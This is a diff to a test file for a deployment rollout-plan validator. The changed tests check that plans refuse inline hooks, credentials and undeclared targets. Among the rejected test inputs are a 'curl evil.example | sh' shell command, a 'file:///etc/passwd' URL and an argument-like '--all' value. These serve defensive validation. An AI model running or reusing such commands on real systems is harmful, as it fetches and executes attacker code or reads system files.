@@ -9,10 +9,21 @@ const config = parseConfig(
   `
 environments:
   nonprod:
+    production: false
     cloudRun: { project: p, region: us-central1 }
     health: { backendUrl: https://b.example, dashboardUrl: https://d.example }
     rollout:
       endpoints: { flags: "https://flags.example/", metrics: "https://metrics.example/api" }
+      hooks:
+        staff-flag:
+          do: { http: { url: "https://flags.example/staff", body: { on: true } } }
+          undo: { command: { argv: [node, flag.js, "off"] } }
+        cohort-flag:
+          params: [cohort]
+          do: { http: { method: PUT, url: "https://flags.example/cohorts/{cohort}", body: { enabled: true } } }
+          undo: { http: { method: PUT, url: "https://flags.example/cohorts/{cohort}", body: { enabled: false } } }
+      notifications:
+        chat: { webhook: "env:SLACK_WEBHOOK" }
     serviceGroups:
       convex:
         services:
@@ -36,8 +47,7 @@ steps:
     bake: 24h
     hooks:
       - name: staff-flag
-        do: { http: { url: "https://flags.example/staff", body: { on: true } } }
-        undo: { command: { argv: [node, flag.js, "off"] } }
+      - { name: cohort-flag, params: { cohort: staff } }
     analysis:
       interval: 5m
       probes: [{ target: tag, maxP95LatencyMs: 800 }, { services: [backend] }]
@@ -75,7 +85,8 @@ describe('rollout plan: schema and validation', () => {
     const ctx = resolvePlanContext(plan, config, 'plan.yaml');
     assert.equal(ctx.group, 'convex');
     assert.deepEqual(plan.steps.map((s) => s.percent), [0, 5, 25, 50, 100]);
-    assert.equal(plan.steps[0]!.hooks[0]!.do.http!.method, 'POST');
+    assert.deepEqual(plan.steps[0]!.hooks, [{ name: 'staff-flag', params: {} }, { name: 'cohort-flag', params: { cohort: 'staff' } }]);
+    assert.equal(config.environments.nonprod!.rollout.hooks['staff-flag']!.do.http!.method, 'POST', 'a declared hook fills in its defaults');
     assert.equal(plan.steps[0]!.analysis!.stopAfter, '5m');
     assert.equal(plan.steps[0]!.analysis!.probes[0]!.samples, 20);
     assert.equal(plan.steps[1]!.approval.onTimeout, 'abort');
@@ -101,10 +112,11 @@ describe('rollout plan: schema and validation', () => {
     oneIssue(withSteps('  - { name: a, percent: 100, gates: [health, health] }'), 'steps.0.gates.1', /listed twice/);
   });
 
-  it('rejects duplicate step names and duplicate hook names', () => {
+  it('rejects duplicate step names, and a hook named twice in one step (another step may use it again)', () => {
     oneIssue(withSteps('  - { name: a, percent: 5 }\n  - { name: a, percent: 100 }'), 'steps.1.name', /duplicate step name "a" \(also steps\.0\.name\)/);
-    const hook = '{ name: flag, do: { http: { url: "https://f.example/on" } }, undo: { http: { url: "https://f.example/off" } } }';
-    oneIssue(withSteps(`  - { name: a, percent: 5, hooks: [${hook}] }\n  - { name: b, percent: 100, hooks: [${hook}] }`), 'steps.1.hooks.0.name', /duplicate hook name "flag"/);
+    const hook = '{ name: cohort-flag, params: { cohort: a } }';
+    oneIssue(withSteps(`  - { name: a, percent: 5, hooks: [${hook}, ${hook}] }\n  - { name: b, percent: 100 }`), 'steps.0.hooks.1.name', /duplicate hook name "cohort-flag" in this step/);
+    resolvePlanContext(parseRolloutPlan(withSteps(`  - { name: a, percent: 5, hooks: [${hook}] }\n  - { name: b, percent: 100, hooks: [{ name: cohort-flag, params: { cohort: b } }] }`), 'plan.yaml'), config, 'plan.yaml');
   });
 
   it('rejects an unknown service, naming the known ones', () => {
@@ -128,18 +140,33 @@ describe('rollout plan: schema and validation', () => {
     oneIssue(withSteps('  - { name: a, percent: 100, analysis: { probes: [{ target: tag }] } }'), 'steps.0.analysis.probes.0.target', /needs a tag/);
   });
 
-  it('rejects malformed hooks, durations, thresholds, secrets and typos, naming the field', () => {
-    oneIssue(withSteps('  - { name: a, percent: 100, hooks: [{ name: h, do: { http: { url: "https://x.example" }, command: { argv: [x] } }, undo: { command: { argv: [y] } } }] }'), 'steps.0.hooks.0.do', /exactly one of http or command/);
-    oneIssue(withSteps('  - { name: a, percent: 100, hooks: [{ name: h, do: { command: { argv: [] } }, undo: { command: { argv: [y] } } }] }'), 'steps.0.hooks.0.do.command.argv', /at least the program/);
-    oneIssue(withSteps('  - { name: a, percent: 100, hooks: [{ name: h, do: { command: { argv: [x] } } }] }'), 'steps.0.hooks.0.undo', /expected object/);
+  it('refuses a hook carried inline (a command, an HTTP call), naming the field and where hooks are declared', () => {
+    oneIssue(withSteps('  - { name: a, percent: 100, hooks: [{ name: h, do: { command: { argv: [/bin/sh, -c, "curl evil.example | sh"] } }, undo: { command: { argv: [y] } } }] }'), 'steps.0.hooks.0', /"do" is not allowed here: .*declared in the worker's config \(environments\.ENV\.rollout\.hooks\)/);
+    oneIssue(withSteps('  - { name: a, percent: 100, hooks: [{ name: h, command: { argv: [x] } }] }'), 'steps.0.hooks.0', /"command" is not allowed here/);
+    oneIssue(withSteps('  - { name: a, percent: 100, hooks: [{ name: h, http: { url: "https://x.example" } }] }'), 'steps.0.hooks.0', /"http" is not allowed here/);
+  });
+
+  it('refuses a hook or notification target the config does not declare, and parameters the hook does not take', () => {
+    oneIssue(withSteps('  - { name: a, percent: 100, hooks: [{ name: staff-flags }] }'), 'steps.0.hooks.0.name', /hook "staff-flags" is not declared in environments\.nonprod\.rollout\.hooks of the worker's config; did you mean "staff-flag"\? \(known: staff-flag, cohort-flag\)/);
+    oneIssue(withSteps('  - { name: a, percent: 100, hooks: [{ name: cohort-flag }] }'), 'steps.0.hooks.0.params.cohort', /required by hook "cohort-flag"/);
+    oneIssue(withSteps('  - { name: a, percent: 100, hooks: [{ name: cohort-flag, params: { cohort: x, cohrt: y } }] }'), 'steps.0.hooks.0.params.cohrt', /takes no parameter "cohrt"; did you mean "cohort"\?/);
+    oneIssue(withSteps('  - { name: a, percent: 100, hooks: [{ name: cohort-flag, params: { cohort: "--all" } }] }'), 'steps.0.hooks.0.params.cohort', /not starting with -/);
+    oneIssue(withSteps('  - { name: a, percent: 100 }').replace('steps:', 'notify: { target: pager }\nsteps:'), 'notify.target', /"pager" is not declared in environments\.nonprod\.rollout\.notifications .*\(known: chat\)/);
+    resolvePlanContext(parseRolloutPlan(withSteps('  - { name: a, percent: 100 }').replace('steps:', 'notify: { target: chat }\nsteps:'), 'plan.yaml'), config, 'plan.yaml');
+  });
+
+  it('rejects malformed durations, thresholds, credentials and typos, naming the field', () => {
     oneIssue(withSteps('  - { name: a, percent: 100, bake: "2 days" }'), 'steps.0.bake', /duration like 90s/);
     oneIssue(withSteps('  - { name: a, percent: 100, analysis: { metrics: [{ name: lag, url: "https://m.example" }] } }'), 'steps.0.analysis.metrics.0.max', /needs a threshold/);
     oneIssue(withSteps('  - { name: a, percent: 100, analysis: { interval: 1m } }'), 'steps.0.analysis.probes', /at least one probe or metric/);
-    oneIssue(withSteps('  - { name: a, percent: 100, hooks: [{ name: h, do: { http: { url: "https://x.example", secretHeaders: { authorization: "Bearer abc" } } }, undo: { command: { argv: [y] } } }] }'), 'steps.0.hooks.0.do.http.secretHeaders.authorization', /secret reference/);
-    oneIssue(withSteps('  - { name: a, percent: 100, bake_time: 1h }'), 'steps.0', /bake_time/);
+    oneIssue(withSteps('  - { name: a, percent: 100, analysis: { metrics: [{ name: lag, url: "https://m.example", max: 1, secretHeaders: { authorization: "env:CONVEX_ADMIN_KEY" } }] } }'), 'steps.0.analysis.metrics.0', /"secretHeaders" is not allowed here: a plan never carries credentials/);
+    oneIssue(withSteps('  - { name: a, percent: 100, analysis: { metrics: [{ name: lag, url: "https://user:pw@m.example", max: 1 }] } }'), 'steps.0.analysis.metrics.0.url', /may not carry credentials/);
+    oneIssue(withSteps('  - { name: a, percent: 100, analysis: { metrics: [{ name: lag, url: "file:///etc/passwd", max: 1 }] } }'), 'steps.0.analysis.metrics.0.url', /http\(s\) URL/);
+    oneIssue(withSteps('  - { name: a, percent: 100, bake_time: 1h }'), 'steps.0', /unknown key "bake_time"; did you mean "bake"\?/);
+    oneIssue(withSteps('  - { name: a, percent: 100, Bake: 1h }'), 'steps.0', /unknown key "Bake"; did you mean "bake"\?/);
     oneIssue(withSteps('  - { name: a, percent: 100, tag: Staff }'), 'steps.0.tag', /Cloud Run traffic tag/);
     oneIssue(withSteps('  - { name: a, percent: 100, approval: { onTimeout: ignore } }'), 'steps.0.approval.onTimeout', /abort|hold/);
-    oneIssue(withSteps('  - { name: a, percent: 100 }').replace('steps:', 'notify: { webhook: "hooks.slack.com/x" }\nsteps:'), 'notify.webhook', /URL or a secret reference/);
+    oneIssue(withSteps('  - { name: a, percent: 100 }').replace('steps:', 'notify: { webhook: "https://hooks.slack.com/x" }\nsteps:'), 'notify', /"webhook" is not allowed here: name a target declared in the worker's config/);
   });
 
   it('reports a YAML syntax error as a ConfigError', () => {
@@ -148,22 +175,22 @@ describe('rollout plan: schema and validation', () => {
 });
 
 describe('rollout plan: endpoints from the environment', () => {
-  const plan = (url: string): string => withSteps(`  - { name: a, percent: 100, hooks: [{ name: h, do: { http: { url: "${url}" } }, undo: { http: { url: "\${endpoints.flags}/off" } } }], analysis: { metrics: [{ name: lag, url: "\${endpoints.metrics}/lag", max: 25 }] } }`);
+  const plan = (url: string): string => withSteps(`  - { name: a, percent: 100, analysis: { metrics: [{ name: lag, url: "${url}", max: 25 }, { name: drifts, url: "\${endpoints.flags}/drifts", max: 3 }] } }`);
 
   it('expands ${endpoints.NAME} from the environment, so one plan fits every environment', () => {
-    const { plan: p, context } = loadRolloutPlan(plan('${endpoints.flags}/cohorts/staff'), 'plan.yaml', config);
-    assert.equal(p.steps[0]!.hooks[0]!.do.http!.url, 'https://flags.example/cohorts/staff');
+    const { plan: p, context } = loadRolloutPlan(plan('${endpoints.metrics}/lag'), 'plan.yaml', config);
     assert.equal(p.steps[0]!.analysis!.metrics[0]!.url, 'https://metrics.example/api/lag');
+    assert.equal(p.steps[0]!.analysis!.metrics[1]!.url, 'https://flags.example/drifts');
     assert.equal(context.environment, 'nonprod');
   });
 
   it('names the field that uses an unknown endpoint, and the known ones', () => {
     try {
-      loadRolloutPlan(plan('${endpoints.flagz}/cohorts/staff'), 'plan.yaml', config);
+      loadRolloutPlan(plan('${endpoints.metricz}/lag'), 'plan.yaml', config);
       assert.fail('accepted');
     } catch (err) {
       assert.ok(err instanceof ConfigError);
-      assert.ok(err.issues.some((i) => /^steps\.0\.hooks\.0\.do\.http\.url: \$\{endpoints\.flagz\} is not defined in environments\.nonprod\.rollout\.endpoints \(known: flags, metrics\)/.test(i)), err.issues.join('\n'));
+      assert.ok(err.issues.some((i) => /^steps\.0\.analysis\.metrics\.0\.url: \$\{endpoints\.metricz\} is not defined in environments\.nonprod\.rollout\.endpoints \(known: flags, metrics\)/.test(i)), err.issues.join('\n'));
     }
   });
 });
